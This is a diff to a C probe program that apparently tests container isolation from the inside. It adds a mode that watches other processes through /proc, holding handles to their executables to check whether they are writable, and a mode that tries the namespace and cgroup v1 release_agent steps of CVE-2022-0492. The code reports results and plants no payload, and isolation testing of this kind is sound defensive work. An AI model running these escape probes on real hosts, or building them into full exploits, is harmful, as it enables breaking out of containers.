@@ -14,6 +14,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -167,9 +168,131 @@ static void descriptors(void)
     closedir(folder);
 }
 
+/* Whatever can be seen of other processes for so long, each once: whoever starts a process in here
+ * is one of them for a moment, with all that they hold. */
+#define MOST_SEEN 1024
+#define MOST_HELD 256
+static char *seen[MOST_SEEN];
+static int held[MOST_HELD], count_held;
+
+static int is_new(const char *line)
+{
+    int at = 0;
+    for (; at < MOST_SEEN && seen[at]; at++)
+        if (strcmp(seen[at], line) == 0)
+            return 0;
+    if (at < MOST_SEEN)
+        seen[at] = strdup(line);
+    return 1;
+}
+
+static void look_at(const char *path, const char *what)
+{
+    char target[512], line[1024];
+    struct stat other, own;
+    ssize_t size = readlink(path, target, sizeof target - 1);
+    if (size < 0)
+        return;
+    target[size] = 0;
+    const char *whose = "";
+    if (strcmp(what, "root") == 0 && stat(path, &other) == 0 && stat("/", &own) == 0 &&
+        (other.st_dev != own.st_dev || other.st_ino != own.st_ino))
+        whose = "foreign ";
+    snprintf(line, sizeof line, "%s %s%s", what, whose, target);
+    if (is_new(line)) {
+        puts(line);
+        if (strcmp(what, "exe") == 0 && count_held < MOST_HELD)
+            if ((held[count_held] = open(path, O_PATH | O_CLOEXEC)) >= 0)
+                count_held++;
+    }
+}
+
+static void look_at_process(const char *name)
+{
+    char path[512];
+    static const char *links[] = {"exe", "cwd", "root"};
+    for (int link = 0; link < 3; link++) {
+        snprintf(path, sizeof path, "/proc/%s/%s", name, links[link]);
+        look_at(path, links[link]);
+    }
+    snprintf(path, sizeof path, "/proc/%s/exe", name);
+    int program = open(path, O_WRONLY | O_CLOEXEC);
+    if (program >= 0) {
+        printf("writable %s\n", path);
+        close(program);
+    }
+    snprintf(path, sizeof path, "/proc/%s/fd", name);
+    DIR *folder = opendir(path);
+    for (struct dirent *entry; folder && (entry = readdir(folder));) {
+        snprintf(path, sizeof path, "/proc/%s/fd/%s", name, entry->d_name);
+        look_at(path, "fd");
+    }
+    if (folder)
+        closedir(folder);
+}
+
+static void watch(long milliseconds)
+{
+    struct timespec now;
+    clock_gettime(CLOCK_MONOTONIC, &now);
+    long end = now.tv_sec * 1000 + now.tv_nsec / 1000000 + milliseconds;
+    puts("watching");
+    while (now.tv_sec * 1000 + now.tv_nsec / 1000000 < end) {
+        DIR *folder = opendir("/proc");
+        for (struct dirent *entry; (entry = readdir(folder));)
+            if (atoi(entry->d_name) && atoi(entry->d_name) != getpid())
+                look_at_process(entry->d_name);
+        closedir(folder);
+        clock_gettime(CLOCK_MONOTONIC, &now);
+    }
+    for (int at = 0; at < count_held; at++) { /* nobody executes them any more */
+        char path[64], target[512];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held[at]);
+        ssize_t size = readlink(path, target, sizeof target - 1);
+        target[size < 0 ? 0 : size] = 0;
+        int program = open(path, O_WRONLY | O_CLOEXEC);
+        if (program >= 0)
+            printf("writable %s\n", target);
+    }
+}
+
+static void put(const char *path, const char *text)
+{
+    int file = open(path, O_WRONLY);
+    if (file < 0 || write(file, text, strlen(text)) < 0)
+        printf("%s errno %d\n", path, errno);
+    close(file);
+}
+
+/* Root of a user namespace of its own with a view of cgroups of its own mounts v1 (CVE-2022-0492). */
+static void cgroups(void)
+{
+    static const char *kinds[] = {"memory", "rdma", "pids", "devices", "misc"};
+    char map[64], path[64];
+    int uid = getuid();
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
+        printf("unshare errno %d\n", errno);
+        return;
+    }
+    puts("unshare done");
+    snprintf(map, sizeof map, "0 %d 1", uid);
+    put("/proc/self/uid_map", map);
+    for (int kind = 0; kind < 5; kind++) {
+        snprintf(path, sizeof path, "/tmp/probe-%s", kinds[kind]);
+        mkdir(path, 0700);
+        if (mount("c", path, "cgroup", 0, kinds[kind]) != 0) {
+            printf("%s errno %d\n", kinds[kind], errno);
+            continue;
+        }
+        printf("%s done\n", kinds[kind]);
+        if (chdir(path) == 0 && open("release_agent", O_WRONLY) >= 0)
+            printf("release_agent done\n");
+    }
+}
+
 int main(int count, char **words)
 {
-    int is_bare = count > 2 && strcmp(words[2], "--bare") == 0; /* it was meant to be without */
+    int is_bare = count > 2 && strcmp(words[count - 1], "--bare") == 0; /* it was meant to be without */
     if (prctl(PR_GET_SECCOMP) != 2 && !is_bare) {
         fprintf(stderr, "this is for the inside of a container\n");
         return 2;
@@ -183,6 +306,10 @@ int main(int count, char **words)
         attempts();
     else if (strcmp(wanted, "fds") == 0)
         descriptors();
+    else if (strcmp(wanted, "cgroups") == 0)
+        cgroups();
+    else if (strcmp(wanted, "watch") == 0)
+        watch(atol(words[2]));
     else
         printf("uid %d\neuid %d\n", getuid(), geteuid());
     return 0;
